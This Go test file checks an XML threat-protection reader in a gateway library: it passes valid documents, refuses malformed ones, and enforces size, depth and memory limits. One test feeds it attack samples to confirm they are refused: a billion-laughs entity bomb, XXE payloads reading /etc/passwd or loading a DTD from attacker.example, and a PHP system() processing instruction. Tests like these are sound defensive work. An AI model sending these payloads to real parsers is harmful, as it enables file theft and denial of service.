package threat_test

import (
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/portico-gw/portico"
	"github.com/portico-gw/portico/threat"
)

// validXML are documents every checker must pass unchanged.
var validXML = []string{
	`<a/>`,
	`<a></a>`,
	`<?xml version="1.0"?><a/>`,
	`<?xml version='1.0' encoding='UTF-8' standalone='yes'?>` + "\n<a/>\n",
	"<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<!-- a comment -->\n<a/>\n<!-- another -->\n",
	"\xef\xbb\xbf<?xml version=\"1.0\"?><a/>", // a byte order mark
	"\xef\xbb\xbf<a/>",
	`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:GetPrice xmlns:m="https://example.com/prices"><m:Item>Apples</m:Item></m:GetPrice></soap:Body></soap:Envelope>`,
	`<a b="1" c='2' d = "3"  e="&lt;&gt;&amp;&apos;&quot;&#65;&#x42;&#x1F600;"/>`,
	`<a>text &amp; more <b>bold</b> tail</a>`,
	`<a><![CDATA[<not a tag> & ]] ]> ]]]></a>`,
	`<a>]] > ]</a>`,
	`<a><!-- - -> --></a>`,
	`<a   ></a  >`,
	`<日本 語="値">テキスト</日本>`,
	`<_a.b-c:d é="é"/>`,
	"<a>\t\n\r</a>",
	`<a>&#10;&#x10FFFF;</a>`,
	`<a b="x"/><!---->`,
	`<a>1 &lt; 2</a>`,
}

func TestXMLPassesValid(t *testing.T) {
	for _, doc := range validXML {
		t.Run(doc, func(t *testing.T) {
			if err := goXMLAccepts([]byte(doc)); err != nil {
				t.Fatalf("encoding/xml refuses it (%v): fix the test", err)
			}
			wantPassed(t, []byte(doc), threat.XML, nil)
		})
	}
}

func TestXMLEmptyBodyPasses(t *testing.T) {
	wantPassed(t, nil, threat.XML, nil)
}

// TestXMLRefusesAttacks: DTDs, and so entity expansion and external
// entities, are refused, wherever and however they come, as are
// processing instructions and undeclared entities.
func TestXMLRefusesAttacks(t *testing.T) {
	const dtd = "document type declaration (<!DOCTYPE) or markup declaration refused"
	tests := []struct {
		name, doc, want string
	}{
		{"billion laughs", `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>`, dtd},
		{"XXE", `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<foo>&xxe;</foo>`, dtd},
		{"XXE by parameter entity", `<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]><foo/>`, dtd},
		{"external DTD", `<!DOCTYPE foo SYSTEM "http://attacker.example/foo.dtd"><foo/>`, dtd},
		{"DOCTYPE without a subset", `<!DOCTYPE foo><foo/>`, dtd},
		{"entity declaration outside a DTD", `<a><!ENTITY x "y"></a>`, dtd},
		{"undeclared entity", `<foo>&xxe;</foo>`, "entity reference refused"},
		{"undeclared entity in an attribute", `<foo a="&lol9;"/>`, "entity reference refused"},
		{"HTML entity", `<foo>&nbsp;</foo>`, "entity reference refused"},
		{"predefined entity name too long", `<foo>&quote;</foo>`, "entity reference refused"},
		{"processing instruction", `<?xml version="1.0"?><?xml-stylesheet href="http://attacker.example/x.xsl"?><a/>`, "processing instruction refused"},
		{"processing instruction first", `<?xml-stylesheet href="x.xsl"?><a/>`, "processing instruction refused"},
		{"processing instruction inside", `<a><?php system("id"); ?></a>`, "processing instruction refused"},
		{"declaration not at the start", ` <?xml version="1.0"?><a/>`, "processing instruction refused"},
		{"second declaration", `<?xml version="1.0"?><?xml version="1.0"?><a/>`, "processing instruction refused"},
		{"declaration after the root", `<a/><?xml version="1.0"?>`, "processing instruction refused"},
		{"another encoding", `<?xml version="1.0" encoding="ISO-8859-1"?><a/>`, `encoding "ISO-8859-1" refused`},
		{"UTF-16", "\xff\xfe<\x00a\x00/\x00>\x00", "invalid UTF-8"},
		{"UTF-7 declared", `<?xml version="1.0" encoding="UTF-7"?><a>+ADw-script+AD4-</a>`, `encoding "UTF-7" refused`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			wantFailed(t, []byte(tt.doc), threat.XML, nil, portico.EInvalid, tt.want)
		})
	}
}

// TestXMLBillionLaughsRefusedAtOnce: the refusal comes at the DTD's first
// bytes, before the entities are read.
func TestXMLBillionLaughsRefusedAtOnce(t *testing.T) {
	doc := `<?xml version="1.0"?><!DOCTYPE lolz [` + strings.Repeat(`<!ENTITY lol "lol">`, 1e5) + `]><lolz/>`
	_, err := readAll([]byte(doc), threat.XML, &portico.ThreatProtection{MaxBodyBytes: 1 << 30})
	wantRefused(t, err, portico.EInvalid, "(<!DOCTYPE)", "at byte 23")
}

// TestXMLRefusesMalformed: each way of breaking well-formedness is
// refused with 400 and a message that says what and where.
func TestXMLRefusesMalformed(t *testing.T) {
	tests := []struct {
		doc, want string
	}{
		{` `, "ends before the root element at byte 1"},
		{`<!-- only a comment -->`, "ends before the root element"},
		{`<a>`, "ends with 1 elements open"},
		{`<a><b></b>`, "ends with 1 elements open"},
		{`<a/><!-- `, "ends inside a comment"},
		{`<a`, "ends inside a tag"},
		{`<a b="1`, "ends inside a tag"},
		{`<a><![CDATA[x]]`, "ends inside a CDATA section"},
		{`<a>&am`, "ends inside a reference"},
		{`<?xml version="1.0"`, "ends inside the XML declaration"},
		{`<a></a><!-`, "ends inside markup"},
		{"<a>\xc3", "ends inside a UTF-8 sequence"},
		{`text`, "text before the root element at byte 0"},
		{`<a/>text`, "text after the root element at byte 4"},
		{`<a/><b/>`, "a second root element at byte 5"},
		{`</a>`, "end tag without a start tag"},
		{`<a></b>`, "end tag does not match its start tag"},
		{`<a><b></a></b>`, "end tag does not match its start tag"},
		{`<a></ab>`, "end tag does not match its start tag"},
		{`<ab></a>`, "end tag does not match its start tag"},
		{`<a></>`, "'>' where a name should be"},
		{`<1a/>`, "'1' after '<'"},
		{`< a/>`, "' ' after '<'"},
		{`<a b/>`, "'/' where '=' should be"},
		{`<a b=1/>`, "'1' where a quoted attribute value should be"},
		{`<a b="1"c="2"/>`, "'c' where white space, '/' or '>' should be"},
		{`<a b="1" b="2"/>`, "an attribute given twice in one start tag"},
		{`<a xmlns:p="1" xmlns:p="1"/>`, "an attribute given twice"},
		{`<a b="<"/>`, "'<' in an attribute value"},
		{`<a b="&"/>`, "'&' not starting a reference"},
		{`<a>&</a>`, "'&' not starting a reference"},
		{`<a>&#;</a>`, "';' in a character reference"},
		{`<a>&#x;</a>`, "';' in a character reference"},
		{`<a>&#xG;</a>`, "'G' in a character reference"},
		{`<a>&#0;</a>`, "character reference to U+0000, not an XML character"},
		{`<a>&#xFFFE;</a>`, "not an XML character"},
		{`<a>&#xD800;</a>`, "not an XML character"},
		{`<a>&#x110000;</a>`, "beyond U+10FFFF"},
		{`<a>&#99999999999999999999;</a>`, "beyond U+10FFFF"},
		{`<a / >`, "' ' where '>' should be"},
		{`<a>]]></a>`, `"]]>" in text`},
		{`<a><!-- a -- b --></a>`, `"--" inside a comment`},
		{`<a><!-- a ---></a>`, `"--" inside a comment`},
		{`<a><!- a --></a>`, `' ' where "-" should be`},
		{`<a><![CDAT[x]]></a>`, `'[' where "A" should be`},
		{`<![CDATA[x]]><a/>`, "CDATA section outside the root element"},
		{`<a><!x></a>`, `"<!" not followed by "--" or "[CDATA["`},
		{"<a>\x00</a>", "character U+0000 not allowed in XML"},
		{"<a>\x0c</a>", "character U+000C not allowed"},
		{"<a>\xef\xbf\xbe</a>", "character U+FFFE not allowed"},
		{"<a>\xff</a>", "invalid UTF-8"},
		{"<a>\xc0\xbc</a>", "invalid UTF-8"},     // an overlong '<'
		{"<a>\xed\xa0\x80</a>", "invalid UTF-8"}, // a surrogate
		{"<a>\xc3<</a>", "invalid UTF-8"},
		{`<a b="` + "\x01" + `"/>`, "character U+0001 not allowed"},
		{"<a>\xef\xbb\xbf</a><!---->\xef\xbb\xbf", "text after the root element"}, // a BOM only at the start
		{`<?xml version="1.1"?><a/>`, "malformed XML declaration (or a version other than 1.0)"},
		{`<?xml?><a/>`, "malformed XML declaration"},
		{`<?xml encoding="UTF-8"?><a/>`, "malformed XML declaration"},
		{`<?xml version="1.0" standalone="maybe"?><a/>`, "malformed XML declaration"},
		{`<?xml version="1.0"` + strings.Repeat(" ", 300) + `?><a/>`, "malformed XML declaration"},
		{`<?xml version="1.0" encoding="é"?><a/>`, "malformed XML declaration"},
		{`<a><b>`, "ends with 2 elements open"},
		{`<::c/>`, "not a qualified name"},
		{`<:c/>`, "not a qualified name"},
		{`<c:/>`, "not a qualified name"},
		{`<a:b:c/>`, "not a qualified name"},
		{`<a b:="1"/>`, "not a qualified name"},
		{`<a :b="1"/>`, "not a qualified name"},
	}
	for _, tt := range tests {
		t.Run(tt.doc, func(t *testing.T) {
			wantFailed(t, []byte(tt.doc), threat.XML, nil, portico.EInvalid, tt.want)
		})
	}
}

// TestXMLLimits: each limit passes a document at the limit and refuses
// one over it, naming the limit and where it was crossed.
func TestXMLLimits(t *testing.T) {
	lim := &portico.ThreatProtection{XML: portico.ThreatXMLLimits{
		MaxDepth: 3, MaxAttributes: 2, MaxTextLength: 4, MaxNameLength: 3,
	}}
	tests := []struct {
		name     string
		ok, over string
		field    string
		at       int64 // offset of the byte over the limit
	}{
		{"depth", `<a><b><c/></b></a>`, `<a><b><c><d/></c></b></a>`, "max_depth", 10},
		{"depth again", `<a><b><c/></b><b><c/></b></a>`, `<a><b><c/><c><d></d></c></b></a>`, "max_depth", 14},
		{"attributes", `<a b="1" c="2"><d e="1" f="2"/></a>`, `<a b="1" c="2" d="3"/>`, "max_attributes", 15},
		{"text", `<a>abcd<b>abcd</b>abcd</a>`, `<a>abcde</a>`, "max_text_length", 7},
		{"text of references", `<a>&lt;&#233;&#x1F600;é</a>`, `<a>&lt;&#233;&#x1F600;é&amp;</a>`, "max_text_length", 28},
		{"text of UTF-8", `<a>日本語!</a>`, `<a>日本語!!</a>`, "max_text_length", 13},
		{"text across a comment", `<a>ab<!-- -->cd</a>`, `<a>ab<!-- -->cde</a>`, "max_text_length", 15},
		{"text and CDATA", `<a>ab<![CDATA[c]]>d</a>`, `<a>ab<![CDATA[cd]]>e</a>`, "max_text_length", 19},
		{"CDATA of ]", `<a><![CDATA[]]]]]]></a>`, `<a><![CDATA[]]]]]]]></a>`, "max_text_length", 16},
		{"CDATA of ] and text", `<a><![CDATA[]]]x]]></a>`, `<a><![CDATA[]]]]x]]></a>`, "max_text_length", 16},
		{"CDATA of text", `<a><![CDATA[abcd]]></a>`, `<a><![CDATA[abcde]]></a>`, "max_text_length", 16},
		{"attribute value", `<a b="abcd" c="&amp;bcd"/>`, `<a b="abcde"/>`, "max_text_length", 10},
		{"comment", `<a><!--abcd--></a>`, `<a><!--abcde--></a>`, "max_text_length", 11},
		{"comment with dashes", `<a><!---a-b--></a>`, `<a><!---a-b-c--></a>`, "max_text_length", 11},
		{"element name", `<abc></abc>`, `<abcd></abcd>`, "max_name_length", 4},
		{"end tag name", `<abc></abc>`, `<abc></abcd>`, "max_name_length", 10},
		{"attribute name", `<a bcd="1"/>`, `<a bcde="1"/>`, "max_name_length", 6},
		{"name of UTF-8", `<日本語/>`, `<日本語x/>`, "max_name_length", 10},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			wantPassed(t, []byte(tt.ok), threat.XML, lim)
			wantFailed(t, []byte(tt.over), threat.XML, lim, portico.EInvalid,
				"(threat_protection.xml."+tt.field+")", fmt.Sprintf("at byte %d", tt.at))
		})
	}
}

// TestXMLDeepNesting: a million start tags are refused at the first one
// over the limit.
func TestXMLDeepNesting(t *testing.T) {
	src := &countingReader{r: strings.NewReader(strings.Repeat("<a>", 1e6))}
	r := threat.NewReader(src, threat.XML, &portico.ThreatProtection{MaxBodyBytes: 1 << 30})
	buf := make([]byte, 32<<10)
	n, err := r.Read(buf)
	wantRefused(t, err, portico.EInvalid, "nested deeper than 64 levels", "at byte 193")
	if n != 0 || src.n > int64(len(buf)) {
		t.Fatalf("returned %d bytes, read %d of the body", n, src.n)
	}
}

// TestXMLHugeTextBoundedMemory: text, attribute values, comments and
// names far over their limits are refused without being held; and a
// policy that lets a 16 MiB text through checks it without holding it.
func TestXMLHugeTextBoundedMemory(t *testing.T) {
	const size = 16 << 20
	wrap := func(pre string, c byte, post string) io.Reader {
		return io.MultiReader(strings.NewReader(pre), &repeatReader{c: c, n: size}, strings.NewReader(post))
	}
	big := &portico.ThreatProtection{MaxBodyBytes: 1 << 30}
	for _, tt := range []struct {
		name string
		body io.Reader
		want string
	}{
		{"text", wrap("<a>", 'x', "</a>"), "text longer than 65536 characters"},
		{"CDATA", wrap("<a><![CDATA[", 'x', "]]></a>"), "text longer than 65536 characters"},
		{"attribute", wrap(`<a b="`, 'x', `"/>`), "attribute value longer than 65536 characters"},
		{"comment", wrap(`<a><!--`, 'x', `--></a>`), "comment longer than 65536 characters"},
		{"name", wrap(`<a`, 'x', `/>`), "name longer than 256 characters"},
		{"white space", wrap(`<a/>`, ' ', ``), ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var err error
			alloc := allocatedBy(func() {
				_, err = io.CopyBuffer(io.Discard, threat.NewReader(tt.body, threat.XML, big), make([]byte, 32<<10))
			})
			if tt.want == "" {
				if err != nil {
					t.Fatal(err)
				}
			} else {
				wantRefused(t, err, portico.EInvalid, tt.want)
			}
			if alloc > 64<<10 {
				t.Fatalf("allocated %d bytes", alloc)
			}
		})
	}

	tp := &portico.ThreatProtection{MaxBodyBytes: 1 << 30, XML: portico.ThreatXMLLimits{MaxTextLength: 1 << 30}}
	alloc := allocatedBy(func() {
		n, err := io.CopyBuffer(io.Discard, threat.NewReader(wrap("<a>", 'x', "</a>"), threat.XML, tp), make([]byte, 32<<10))
		if err != nil || n != size+7 {
			t.Errorf("copied %d bytes, %v", n, err)
		}
	})
	if alloc > 64<<10 {
		t.Fatalf("checking a 16 MiB text allocated %d bytes", alloc)
	}
}

// TestXMLAcceptedByEncodingXML: whatever the checker passes of a corpus
// of documents and their mutations, encoding/xml (strict, no entities)
// reads without error, as one root element within the limits, but for
// names with characters that XML 1.0's fifth edition allows and
// encoding/xml's tables, from the first, do not (nameEditions). The
// checker is stricter than encoding/xml otherwise ("]]>", one root, no
// DTD), so the converse is checked on validXML only.
func TestXMLAcceptedByEncodingXML(t *testing.T) {
	r := rand.New(rand.NewPCG(5, 6))
	lim := portico.ThreatXMLLimits{MaxDepth: 5, MaxAttributes: 3, MaxTextLength: 40, MaxNameLength: 8}
	tp := &portico.ThreatProtection{XML: lim}
	var passed, refused int
	for i := range 20000 {
		doc := []byte(randomXML(r))
		if i%2 == 1 {
			doc = mutate(r, doc, xmlAlphabet)
		}
		_, err := readAll(doc, threat.XML, tp, randomSizes(r)...)
		if err == nil {
			passed++
			if err := goXMLWithin(doc, lim); err != nil && !nameEditions(err) {
				t.Fatalf("%q: passed, but %v", doc, err)
			}
		} else {
			refused++
		}
	}
	if passed < 5000 || refused < 5000 {
		t.Fatalf("a poor corpus: %d passed, %d refused", passed, refused)
	}
}

var xmlAlphabet = []string{"<", ">", "/", "!", "?", "-", "[", "]", "&", ";", "#", "x", "=", `"`, "'", " ", "\n", "a", "b", ":", "é", "\xff", "\x00",
	"<!--", "-->", "<![CDATA[", "]]>", "&amp;", "&#65;", "<!DOCTYPE a>", "<?xml version=\"1.0\"?>", "<?pi x?>", "\xef\xbb\xbf"}

// randomXML returns a random well-formed document.
func randomXML(r *rand.Rand) string {
	var b strings.Builder
	switch r.IntN(4) {
	case 0:
		b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>` + "\n")
	case 1:
		b.WriteString("<!-- c -->")
	}
	randomElement(r, &b, 4)
	if r.IntN(4) == 0 {
		b.WriteString("\n<!-- end -->\n")
	}
	return b.String()
}

func randomElement(r *rand.Rand, b *strings.Builder, depth int) {
	names := []string{"a", "b", "p:c", "é", "d-1", "_e.f"}
	name := names[r.IntN(len(names))]
	b.WriteString("<" + name)
	for i := range r.IntN(4) {
		q := []string{`"`, `'`}[r.IntN(2)]
		fmt.Fprintf(b, " at%d=%s%s%s", i, q, []string{"v", "&amp;", "&#x41;", "é x", ""}[r.IntN(5)], q)
	}
	if r.IntN(4) == 0 {
		b.WriteString("/>")
		return
	}
	b.WriteString(">")
	for range r.IntN(4) {
		switch k := r.IntN(6); {
		case k < 2 && depth > 0:
			randomElement(r, b, depth-1)
		case k < 3:
			b.WriteString("<![CDATA[ <x> & ]]>")
		case k < 4:
			b.WriteString("<!-- - -->")
		default:
			b.WriteString([]string{"text", " &lt; ", "&#233;", "\n", "]"}[r.IntN(5)])
		}
	}
	b.WriteString("</" + name + ">")
}

// goXMLAccepts returns encoding/xml's error on doc, strict and without
// entities.
func goXMLAccepts(doc []byte) error {
	return goXMLWithin(doc, portico.ThreatXMLLimits{MaxDepth: 1 << 20, MaxAttributes: 1 << 20, MaxTextLength: 1 << 30, MaxNameLength: 1 << 20})
}

// goXMLWithin reads doc with encoding/xml and checks that it is one root
// element, without DTD or processing instructions (but the declaration),
// within lim.
func goXMLWithin(doc []byte, lim portico.ThreatXMLLimits) error {
	d := xml.NewDecoder(bytes.NewReader(doc))
	d.Strict = true
	depth, roots := 0, 0
	for {
		tok, err := d.RawToken() // names as written
		if err == io.EOF {
			break
		}
		if err != nil {
			return err
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			if depth == 0 {
				roots++
			}
			depth++
			if depth > lim.MaxDepth || len(tok.Attr) > lim.MaxAttributes || utf8.RuneCountInString(qname(tok.Name)) > lim.MaxNameLength {
				return fmt.Errorf("over a limit at %s", qname(tok.Name))
			}
		case xml.EndElement:
			depth--
		case xml.Directive:
			return errors.New("a directive")
		case xml.ProcInst:
			if tok.Target != "xml" {
				return errors.New("a processing instruction")
			}
		case xml.CharData:
			if depth == 0 && len(bytes.TrimLeft(bytes.TrimSpace(tok), "\ufeff")) > 0 {
				return errors.New("text outside the root")
			}
		}
	}
	if roots != 1 || depth != 0 {
		return fmt.Errorf("%d roots, %d left open", roots, depth)
	}
	return nil
}

// nameEditions reports whether err is encoding/xml refusing a name that
// has a character past ASCII: the checker takes names by XML 1.0's fifth
// edition (2008), encoding/xml by the tables of the first (1998), which
// allow fewer characters (not U+FEFF, for one). The two agree on ASCII
// names.
func nameEditions(err error) bool {
	_, name, ok := strings.Cut(err.Error(), ": invalid XML name: ")
	if !ok {
		return false
	}
	for _, r := range name {
		if r >= utf8.RuneSelf {
			return true
		}
	}
	return false
}

func qname(n xml.Name) string {
	if n.Space != "" {
		return n.Space + ":" + n.Local
	}
	return n.Local
}
